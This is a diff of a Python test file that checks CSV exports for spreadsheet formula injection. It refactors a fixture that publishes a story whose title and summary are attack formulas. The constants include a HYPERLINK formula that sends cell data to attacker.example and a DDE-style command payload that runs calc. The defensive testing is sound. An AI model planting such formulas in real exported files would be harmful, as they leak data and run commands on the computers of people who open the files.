@@ -8,7 +8,7 @@ import pytest
 
 from home.spreadsheets import spreadsheet_safe
 from tests import factories
-from tests.conftest import make_locales, make_site_tree, rolled_back, shared
+from tests.conftest import built_once, shared
 
 pytestmark = pytest.mark.xdist_group("csv_safety")
 
@@ -16,17 +16,16 @@ HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 COMMAND = "+cmd|' /C calc'!A0"
 
 
-@pytest.fixture(scope="module")
-def module_data(django_db_setup, django_db_blocker):
+def formula_story(site_tree, locales):
     """One story whose title and summary are formulas, published (so it is also searchable)."""
-    with rolled_back(django_db_blocker):
-        locales = make_locales()
-        site_tree = make_site_tree(locales)
-        story = factories.ReformStoryPageFactory(
-            parent=site_tree["stories"], title=HYPERLINK, summary=COMMAND
-        )
-        story.save_revision().publish()
-        yield {"locales": locales, "site_tree": site_tree, "pages": {"story": story}}
+    story = factories.ReformStoryPageFactory(
+        parent=site_tree["stories"], title=HYPERLINK, summary=COMMAND
+    )
+    story.save_revision().publish()
+    return {"story": story}
+
+
+module_data = built_once(formula_story, name="pages")
 
 
 locales, site_tree, pages = shared("locales", "site_tree", "pages")
